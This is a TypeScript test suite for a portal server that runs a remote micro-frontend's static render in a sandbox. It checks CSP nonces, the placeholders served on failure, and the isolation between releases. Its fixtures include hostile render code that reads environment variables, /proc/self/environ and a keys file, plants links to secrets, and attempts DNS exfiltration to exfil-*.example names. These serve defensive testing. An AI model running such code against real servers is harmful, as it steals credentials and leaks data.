// The first paint of a remote's public page: the server composes the remote's own static
// render (its release's ssr/render.cjs) into the host's page, runs that code in a sandboxed process
// that reaches nothing of the server's (environment, files, keys, network, name resolution) on the
// portal's copy of the release (never the team's folder), serves the placeholder when it fails or
// hangs or the namespace layer it needs is missing, follows a switch of release, never serves
// ssr/ as files, and lets no <script> of that HTML run (the page's CSP trusts a nonce of each
// response that only the host's scripts carry). The bounds of that process: render-bounds.test.ts.
import { linkSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import type { FastifyBaseLogger } from 'fastify';
import { loadSettings } from '../src/config/settings';
import { createRemoteRenderer } from '../src/hosting/remote-render';
import { harness, type Harness } from './helpers';
import { appsRoot, supportRelease } from './render-kit';

let h: Harness;
let root: string;
const MASTER_KEY = 'f00dfeed'.repeat(8);

// a hostile release's static render: it reads the environment, /proc/self/environ and the keys
// file, opens a TCP connection and fetches from the loopback, signals the server, and shows what it got
const hostileRender = (keysFile: string, port: number) => `
const fs = require('node:fs');
const net = require('node:net');
const read = (file) => { try { return fs.readFileSync(file, 'utf8'); } catch (e) { return 'denied ' + e.code; } };
const connect = () => new Promise((resolve) => {
  setTimeout(() => resolve('no answer'), 500);
  try {
    const socket = net.connect(${port}, '127.0.0.1', () => { socket.end('from the release'); resolve('connected'); });
    socket.on('error', (e) => resolve('refused ' + e.code));
  } catch (e) { resolve('threw ' + e.code); }
});
const fetched = () => fetch('http://127.0.0.1:${port}/').then(() => 'fetched', (e) => 'not fetched');
exports.render = async ({ module }) => {
  if (module !== 'support/ContactPage') return null;
  let signal = 'signalled';
  try { process.kill(process.ppid, 0); } catch (e) { signal = 'denied'; }
  const got = { env: process.env, environ: read('/proc/self/environ'), keys: read(${JSON.stringify(keysFile)}),
    socket: await connect(), fetch: await fetched(), signal };
  return '<h1>Contact Us</h1><pre data-got>' + JSON.stringify(got).replace(/</g, '&lt;') + '</pre>';
};`;

const page = (url: string) => h.app.inject({ method: 'GET', url });
/** The script-src directive of an answer's Content-Security-Policy. */
const scriptSrcOf = (res: { headers: Record<string, unknown> }) =>
  String(res.headers['content-security-policy'])
    .split(';')
    .find((d) => d.startsWith('script-src '))!
    .split(' ')
    .slice(1)
    .filter(Boolean);
/** The script nonce an answer's CSP names. */
const nonceOf = (res: { headers: Record<string, unknown> }) =>
  /'nonce-([^']+)'/.exec(String(res.headers['content-security-policy']))![1]!;
const warnings = () => h.logs.filter((l) => l.includes('static render of a remote failed'));

beforeAll(async () => {
  root = appsRoot();
  // a secret in the server's environment, which the remote's code must not see
  process.env.PORTAL_TEST_SECRET = 'not-for-remotes';
  process.env.MASTER_KEY = MASTER_KEY;
  h = await harness({ settings: { appsRoot: root } });
});
afterAll(async () => {
  delete process.env.PORTAL_TEST_SECRET;
  delete process.env.MASTER_KEY;
  await h.close();
  rmSync(root, { recursive: true, force: true });
});

describe("a remote's static render in the host's page", () => {
  test('/contact-us carries the support remote’s HTML, with the programme’s values and its CSS in the head', async () => {
    const res = await page('/contact-us');
    expect(res.statusCode).toBe(200);
    expect(res.body).toMatch(
      /<div id="root" data-ssr data-pages="\w+"><div data-remote-static="support\/ContactPage"><h1>Contact Us<\/h1><p data-from>checkout build<\/p>/,
    );
    expect(res.body).toContain(`<p data-product>${h.app.ctx.program.productName}</p>`);
    expect(res.body).toContain('<style data-portal-ssr-remote>.support_checkoutbuild{color:#123456}</style>');
    expect(res.body).not.toContain('role="status"');
  });

  test("the remote's code runs without the server's environment (no database URL, no secret)", async () => {
    expect(process.env.PORTAL_TEST_SECRET).toBe('not-for-remotes');
    const res = await page('/contact-us');
    expect(res.body).toContain('<p data-env>[]</p>');
    expect(res.body).not.toContain('not-for-remotes');
  });

  test('a page is rendered once per path and release, then served from memory', async () => {
    const first = await page('/contact-us?a=1');
    const second = await page('/contact-us?a=1');
    // the same page (the remote was asked once: its count of calls is the same), with its own nonce
    expect(second.body.replaceAll(nonceOf(second), '')).toBe(first.body.replaceAll(nonceOf(first), ''));
  });

  test('a remote without a static render of the module (the account page) leaves the placeholder', async () => {
    const res = await page('/ind');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('<div role="status">Loading</div>');
    expect(res.body).not.toContain('data-portal-ssr-remote');
  });

  test('a static render that throws: the placeholder, a warning, and the next request tries again', async () => {
    const before = warnings().length;
    const res = await page('/contact-us?case=throw');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('<div role="status">Loading</div>');
    expect(warnings().length).toBe(before + 1);
    expect(warnings().at(-1)).toContain('the remote could not render');
    await page('/contact-us?case=throw');
    expect(warnings().length).toBe(before + 2);
  });

  test('a static render that never ends: the page is served with the placeholder in time, and the next one renders', async () => {
    const res = await page('/contact-us?case=hang');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('<div role="status">Loading</div>');
    expect(warnings().at(-1)).toMatch(/no answer in \d+ ms/);
    const next = await page('/contact-us?after=hang');
    expect(next.body).toContain('<p data-from>checkout build</p>');
  });

  test('ssr/ is never served as files, from the checkout build or a release folder', async () => {
    expect((await page('/remotes/mfe-support/remoteEntry.js')).statusCode).toBe(200);
    expect((await page('/remotes/mfe-support/ssr/render.cjs')).statusCode).toBe(404);
    expect((await page('/remotes/mfe-support/ssr/render.css')).statusCode).toBe(404);
  });

  test('a switch of release reaches the next page: its own static render, and its ssr/ is not served either', async () => {
    const published = await h.admin('POST', '/remotes/publish', {
      remote: 'support',
      source: supportRelease(root, '2.0.0+b2c3d4e'),
    });
    expect(published.statusCode).toBe(200);
    const switched = await h.admin('POST', '/remotes/switch', {
      remote: 'support',
      version: '2.0.0+b2c3d4e',
    });
    expect(switched.statusCode).toBe(200);
    const res = await page('/contact-us');
    expect(res.body).toContain('<p data-from>release 2.0.0+b2c3d4e</p>');
    expect(res.body).toContain('.support_release200b2c3d4e{color:#123456}');
    const base = '/remotes/releases/support/2.0.0%2Bb2c3d4e';
    expect((await page(`${base}/remoteEntry.js`)).statusCode).toBe(200);
    expect((await page(`${base}/ssr/render.cjs`)).statusCode).toBe(404);
    expect((await page(`${base}/ssr/render.css`)).statusCode).toBe(404);
    await h.admin('POST', '/remotes/rollback', { remote: 'support' });
    expect((await page('/contact-us')).body).toContain('<p data-from>checkout build</p>');
  });
});

describe("the page's scripts: the host's only, by a nonce of each response", () => {
  test("a <script> in a release's static render does not run: script-src trusts the response's nonce and what it loads ('strict-dynamic'), and only the host's script carries it", async () => {
    const res = await page('/contact-us?case=script');
    expect(res.statusCode).toBe(200);
    const scriptSrc = scriptSrcOf(res);
    const nonce = nonceOf(res);
    expect(nonce).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    // 'self' stays for browsers without CSP3, which ignore 'strict-dynamic'; never 'unsafe-inline'
    expect(scriptSrc).toEqual(["'self'", `'nonce-${nonce}'`, "'strict-dynamic'"]);
    const area = /<div data-remote-static="support\/ContactPage">(.*?)<\/div>/s.exec(res.body)![1]!;
    expect(area).toContain('<script src="/main.js"></script><script>document.title = "injected"</script>');
    // under CSP3 a parser-inserted script runs only with the nonce: the host's has it, the release's not
    const scripts = [...res.body.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
    expect(scripts).toEqual([
      `<script nonce="${nonce}" defer src="/main.js">`,
      '<script src="/main.js">',
      '<script>',
    ]);
    expect(res.body.split(nonce)).toHaveLength(2);
  });

  test('the nonce differs per response, a page served from memory and its compressed bytes included; other answers name none', async () => {
    const seen = new Set<string>();
    for (const encoding of ['', 'br', 'gzip', 'br', 'gzip', '']) {
      const res = await h.app.inject({
        method: 'GET',
        url: '/contact-us?nonce=cached',
        headers: { 'accept-encoding': encoding },
      });
      const html =
        encoding === 'br'
          ? brotliDecompressSync(res.rawPayload).toString('utf8')
          : encoding === 'gzip'
            ? gunzipSync(res.rawPayload).toString('utf8')
            : res.body;
      const nonce = /'nonce-([^']+)'/.exec(String(res.headers['content-security-policy']))![1]!;
      expect(html).toContain(`<script nonce="${nonce}" defer src="/main.js">`);
      expect(seen.has(nonce)).toBe(false);
      seen.add(nonce);
    }
    expect(seen.size).toBe(6);
    // what is not a page the server rendered keeps the policy without a nonce
    for (const url of ['/config.json', '/remotes/mfe-support/remoteEntry.js', '/api/ind/v1/openapi.json'])
      expect(scriptSrcOf(await page(url))).toEqual(["'self'"]);
  });
});

describe('a hostile release: its static render reaches nothing of the server, and the page is still served', () => {
  let listener: Server;
  let port = 0;
  const connections: Socket[] = [];
  beforeAll(async () => {
    listener = createServer((socket) => {
      connections.push(socket);
      socket.destroy();
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    port = (listener.address() as { port: number }).port;
  });
  afterAll(async () => {
    await h.admin('POST', '/remotes/switch', { remote: 'support', version: 'checkout' });
    await new Promise((r) => listener.close(r));
  });

  const publishAndSwitch = async (dir: string, version: string) => {
    expect((await h.admin('POST', '/remotes/publish', { remote: 'support', source: dir })).statusCode).toBe(
      200,
    );
    expect((await h.admin('POST', '/remotes/switch', { remote: 'support', version })).statusCode).toBe(200);
  };

  test('it reads the environment, /proc/self/environ and the keys file, and connects to the loopback: it gets none of them', async () => {
    const keysFile = join(h.dataDir, 'dev-keys.json');
    const keys = JSON.stringify({ masterKey: 'c0ffee00'.repeat(8), note: 'development only' });
    writeFileSync(keysFile, keys, { mode: 0o600 });
    await publishAndSwitch(
      supportRelease(root, '6.6.6+hostile', hostileRender(keysFile, port)),
      '6.6.6+hostile',
    );

    const res = await page('/contact-us?hostile=1');
    expect(res.statusCode).toBe(200);
    // the page is served with the release's render, which shows what it got
    const got = JSON.parse(
      /<pre data-got>(.*?)<\/pre>/s
        .exec(res.body)![1]!
        .replace(/&quot;/g, '"')
        .replace(/&lt;/g, '<'),
    ) as Record<string, unknown>;
    expect(got).toEqual({
      env: {},
      environ: 'denied ERR_ACCESS_DENIED',
      keys: 'denied ERR_ACCESS_DENIED',
      socket: expect.not.stringMatching(/^connected$/),
      fetch: 'not fetched',
      signal: 'denied',
    });
    expect(connections).toHaveLength(0);
    // nothing of the server's process: the master key, the keys file, any value of its environment
    expect(res.body).not.toContain(MASTER_KEY);
    expect(res.body).not.toContain('c0ffee00');
    expect(res.body).not.toContain('not-for-remotes');
    const environ = readFileSync('/proc/self/environ', 'utf8')
      .split('\0')
      .map((entry) => entry.slice(entry.indexOf('=') + 1))
      .filter((value) => value.length >= 12);
    for (const value of environ) expect(res.body).not.toContain(value);
  });

  // reads its own folder's keys.json and message.txt at each render: whatever the folder holds then
  const plantedRender = `
const fs = require('node:fs');
const path = require('node:path');
const read = (file) => { try { return fs.readFileSync(path.join(__dirname, file), 'utf8'); } catch (e) { return 'denied ' + e.code; } };
exports.render = ({ module }) => module !== 'support/ContactPage' ? null :
  '<h1>Contact Us</h1><p data-message>' + read('message.txt') + '</p><p data-keys>' + read('keys.json').replace(/</g, '&lt;') + '</p>';`;

  test.each([
    ['a symbolic link', 'before', (target: string, link: string) => symlinkSync(target, link)],
    ['a hard link', 'before', (target: string, link: string) => linkSync(target, link)],
    ['a symbolic link', 'after', (target: string, link: string) => symlinkSync(target, link)],
    ['a hard link', 'after', (target: string, link: string) => linkSync(target, link)],
  ])(
    'the team’s ssr/ gains %s to the keys file and a changed file after publish, %s a first render: the page renders the copy made at publish',
    async (kind, when, plant) => {
      const keysFile = join(h.dataDir, 'dev-keys.json');
      writeFileSync(keysFile, JSON.stringify({ masterKey: 'c0ffee00'.repeat(8) }), { mode: 0o600 });
      const version = `6.6.7+${kind.length}${when}`;
      const dir = supportRelease(root, version, plantedRender);
      writeFileSync(join(dir, 'ssr', 'message.txt'), 'as published');
      await publishAndSwitch(dir, version);
      if (when === 'after') {
        const first = await page(`/contact-us?planted=${version}-first`);
        expect(first.body).toContain('<p data-message>as published</p>');
      }
      plant(keysFile, join(dir, 'ssr', 'keys.json'));
      writeFileSync(join(dir, 'ssr', 'message.txt'), 'changed after publish');
      const res = await page(`/contact-us?planted=${version}`);
      expect(res.statusCode).toBe(200);
      expect(res.body).toContain('<p data-message>as published</p>');
      expect(res.body).toContain('<p data-keys>denied ENOENT</p>');
      expect(res.body).not.toContain('c0ffee00');
      expect(res.body).not.toContain('changed after publish');
    },
  );
});

describe('a hostile release without the namespace layer: the sealing alone keeps its DNS queries in', () => {
  let degraded: Harness;
  let udp: UdpSocket;
  let port = 0;
  const queries: Buffer[] = [];
  beforeAll(async () => {
    udp = createSocket('udp4', (message) => queries.push(message));
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    port = udp.address().port;
    degraded = await harness({ settings: { appsRoot: root, renderSandbox: 'degraded' } });
  });
  afterAll(async () => {
    await degraded.close();
    await new Promise<void>((r) => udp.close(() => r()));
  });

  // every way a render could send a name out: c-ares Resolvers (callback and promises, pointed at
  // the test's listener), the default resolver, lookup (getaddrinfo) and a connection by name
  const dnsRender = (server: string) => `
const dns = require('node:dns');
const net = require('node:net');
const server = ${JSON.stringify(server)};
const attempt = async (send) => {
  try { await send(); return 'answered'; } catch (e) { return 'refused ' + e.code; }
};
exports.render = async ({ module }) => {
  if (module !== 'support/ContactPage') return null;
  const got = {
    resolver: await attempt(() => new Promise((resolve, reject) => {
      const r = new dns.Resolver({ timeout: 200, tries: 1 });
      r.setServers([server]);
      r.resolveTxt('exfil-resolver.example', (e) => (e ? reject(e) : resolve()));
    })),
    promises: await attempt(async () => {
      const r = new (require('node:dns/promises').Resolver)({ timeout: 200, tries: 1 });
      r.setServers([server]);
      await r.resolveTxt('exfil-promises.example');
    }),
    channel: await attempt(() => new Promise((resolve, reject) => {
      try { dns.setServers([server]); } catch {}
      dns.resolve4('exfil-default.example', (e) => (e ? reject(e) : resolve()));
    })),
    lookup: await attempt(() => dns.promises.lookup('exfil-lookup.example')),
    connect: await attempt(() => new Promise((resolve, reject) => {
      const s = net.connect(80, 'exfil-connect.example', resolve);
      s.on('error', reject);
    })),
  };
  return '<h1>Contact Us</h1><pre data-got>' + JSON.stringify(got) + '</pre>';
};`;

  test('new dns.Resolver(); setServers([the test’s listener]); resolveTxt(…): no query arrives, every way to resolve a name is refused', async () => {
    const version = '6.6.8+dns';
    const dir = supportRelease(root, version, dnsRender(`127.0.0.1:${port}`));
    expect(
      (await degraded.admin('POST', '/remotes/publish', { remote: 'support', source: dir })).statusCode,
    ).toBe(200);
    expect((await degraded.admin('POST', '/remotes/switch', { remote: 'support', version })).statusCode).toBe(
      200,
    );
    const res = await degraded.app.inject({ method: 'GET', url: '/contact-us?dns=1' });
    expect(res.statusCode).toBe(200);
    const shown = /<pre data-got>(.*?)<\/pre>/s.exec(res.body)?.[1];
    expect(shown).toBeDefined();
    const got = JSON.parse(shown!.replace(/&quot;/g, '"')) as Record<string, string>;
    for (const [way, outcome] of Object.entries(got))
      expect([way, outcome]).toEqual([way, 'refused ERR_ACCESS_DENIED']);
    // a query sent late still arrives within this wait
    await new Promise((r) => setTimeout(r, 300));
    expect(queries.map((q) => q.toString('latin1'))).toEqual([]);
    expect(degraded.logs.join('')).toContain('without namespaces');
  });
});

describe('the namespace layer (RENDER_SANDBOX)', () => {
  const logged: string[] = [];
  const log = {
    info: (_o: object, message: string) => logged.push(`info ${message}`),
    warn: (_o: object, message: string) => logged.push(`warn ${message}`),
    error: (_o: object, message: string) => logged.push(`error ${message}`),
  } as unknown as FastifyBaseLogger;
  const renderer = (sandbox: 'namespaces' | 'auto') =>
    createRemoteRenderer({
      ssrDirOf: () => join(root, 'mfe-support', 'dist', 'ssr'),
      // what the renders here read of it
      config: { program: h.app.ctx.program } as never,
      log,
      sandbox,
      namespaces: () => false,
    });

  test('required and missing (production’s default): the render process is not started, the area keeps its placeholder, the refusal logged', async () => {
    logged.length = 0;
    const required = renderer('namespaces');
    try {
      const answer = await required.render('support/ContactPage', {}, 'http://portal.test/contact-us');
      expect(answer).toEqual({ failed: false });
      expect(logged).toEqual([
        expect.stringMatching(/^error static renders of remotes not run: this machine gives no namespaces/),
      ]);
    } finally {
      await required.close();
    }
    const allowed = renderer('auto');
    try {
      const answer = await allowed.render('support/ContactPage', {}, 'http://portal.test/contact-us');
      expect(answer).toMatchObject({ html: expect.stringContaining('checkout build') });
    } finally {
      await allowed.close();
    }
  });

  test('production requires the namespace layer unless RENDER_SANDBOX says otherwise; development runs without it where there is none', () => {
    expect(loadSettings({ PORTAL_MODE: 'production' }).renderSandbox).toBe('namespaces');
    expect(loadSettings({ PORTAL_MODE: 'production', RENDER_SANDBOX: 'degraded' }).renderSandbox).toBe(
      'degraded',
    );
    expect(loadSettings({ PORTAL_MODE: 'development' }).renderSandbox).toBe('auto');
    expect(() => loadSettings({ PORTAL_MODE: 'production', RENDER_SANDBOX: 'off' })).toThrow(
      'RENDER_SANDBOX must be one of namespaces, auto, degraded',
    );
  });
});
